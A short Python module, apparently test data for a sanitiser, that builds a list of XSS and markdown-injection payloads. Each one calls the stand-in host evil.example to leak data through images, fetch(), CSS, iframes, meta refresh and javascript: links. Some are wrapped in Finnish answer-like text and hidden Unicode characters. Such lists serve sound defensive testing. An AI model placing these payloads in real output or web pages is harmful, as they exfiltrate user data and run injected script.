"""Payloads: texts that would make a page fetch, run or leave something, if it obeyed them."""

import itertools

HOST = "evil.example"
TARGET = f"https://{HOST}/leak?d=hetu"
_FORMS = (
    "![x]({url})",
    "![x][r]\n\n[r]: {url}",
    "[click]({url})",
    "<{url}>",
    "{url}",
    "www.evil.example/leak",
    '<img src="{url}">',
    "<img src={url} onerror=\"fetch('{url}')\">",
    "<svg onload=\"fetch('{url}')\">",
    "<script>fetch('{url}')</script>",
    '<script src="{url}"></script>',
    '<link rel="stylesheet" href="{url}">',
    "<style>@import '{url}'; body {{ background: url({url}) }}</style>",
    '<div style="background-image:url({url})">x</div>',
    '<iframe src="{url}"></iframe>',
    '<video poster="{url}" src="{url}" autoplay></video>',
    '<object data="{url}"></object><embed src="{url}">',
    '<form action="{url}"><input type=image src="{url}"></form>',
    '<meta http-equiv="refresh" content="0;url={url}">',
    "<a href=\"javascript:fetch('{url}')\">x</a>",
    '<a ping="{url}" href="#x">x</a>',
    "$\\href{{{url}}}{{x}} \\includegraphics{{{url}}}$",
    ":material/{url}: :red[![x]({url})]",
    '"><img src={url}>',
    "'-alert(1)-'<math><mtext><img src=x onerror=\"location='{url}'\">",
    "```html\n<img src={url}>\n```",
    "<base href='{url}'><picture><source srcset='{url}'><img></picture>",
    "&lt;img src={url}&gt; &#60;img src={url}&#62;",
    "[1]: {url}\n[1] ![1][1]",
    '<noscript><p title="</noscript><img src={url} onerror=alert(1)>">',
)
_WRAPPINGS = ("{}", "- {}\n- toinen", "Vastaus on tässä [1]. {}", "\u200b{}\u202e")

PAYLOADS = [wrapping.format(form.format(url=TARGET)) for form, wrapping in itertools.product(_FORMS, _WRAPPINGS)]
